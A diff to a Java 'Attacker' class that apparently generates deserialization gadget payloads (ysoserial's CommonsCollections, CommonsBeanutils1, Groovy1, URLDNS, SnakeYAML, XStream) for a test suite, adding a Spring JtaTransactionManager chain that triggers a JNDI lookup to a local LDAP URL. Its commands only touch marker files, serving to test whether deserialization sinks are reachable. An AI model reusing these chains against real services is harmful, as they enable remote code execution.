@@ -22,12 +22,15 @@ import org.objectweb.asm.Opcodes;
  * it to the directory given ({@code <chain>.ser}, {@code .yaml}, {@code .xml}; a jar the YAML payload
  * loads). Every command is {@code touch <chain>.marker}, relative to the victim's working directory, so
  * the victim's test sees which chain reached its sink. The chains are the published ones (ysoserial's
- * CommonsCollections2-6, CommonsBeanutils1, Groovy1, URLDNS; the SnakeYAML and XStream advisories),
+ * CommonsCollections2-6, CommonsBeanutils1, Groovy1, URLDNS; Spring's JtaTransactionManager; the SnakeYAML and XStream
+ * advisories),
  * rebuilt here from the vulnerable libraries themselves. Needs, to set the JDK classes' private fields:
  * {@code --add-opens} for java.xml's trax package, java.base's sun.reflect.annotation, java.util, java.net.
  */
 public final class Attacker {
     private static final String TRAX = "com.sun.org.apache.xalan.internal.xsltc.trax.";
+    /** In a payload, the port of a listener of the victim's, which only the victim knows (zero-padded, as a URL may have it). */
+    static final String PORT = "00000";
 
     public static void main(String[] args) throws Exception {
         Path out = Path.of(args[0]);
@@ -53,6 +56,7 @@ public final class Attacker {
         Files.write(out.resolve("groovy.ser"), save(groovy("touch groovy.marker")));
         Files.write(out.resolve("urldns-sessions.ser"), save(urldns("http://urldns-sessions.invalid/")));
         Files.write(out.resolve("urldns-bookmarks.ser"), save(urldns("http://urldns-bookmarks.invalid/")));
+        Files.write(out.resolve("spring-jta.ser"), save(springJta("ldap://127.0.0.1:" + PORT + "/spring")));
         Path jar = out.resolve("engine.jar").toAbsolutePath();
         engineJar(jar, "snakeyaml.marker");
         Files.writeString(out.resolve("snakeyaml.yaml"),
@@ -133,6 +137,16 @@ public final class Attacker {
         Constructor<?> c = Class.forName("sun.reflect.annotation.AnnotationInvocationHandler").getDeclaredConstructors()[0];
         c.setAccessible(true);
         return c.newInstance(Override.class, map);
+    }
+
+    /**
+     * Spring's JtaTransactionManager: its readObject looks its user transaction up by JNDI name. The port of
+     * the victim's listener is not known yet: {@link #PORT} stands for it, five digits the victim replaces.
+     */
+    static Object springJta(String name) {
+        org.springframework.transaction.jta.JtaTransactionManager m = new org.springframework.transaction.jta.JtaTransactionManager();
+        m.setUserTransactionName(name);
+        return m;
     }
 
     /** URLDNS: a HashMap keyed by a URL whose cached hash is -1, so that rebuilding the map resolves the URL's host. JDK classes only. */
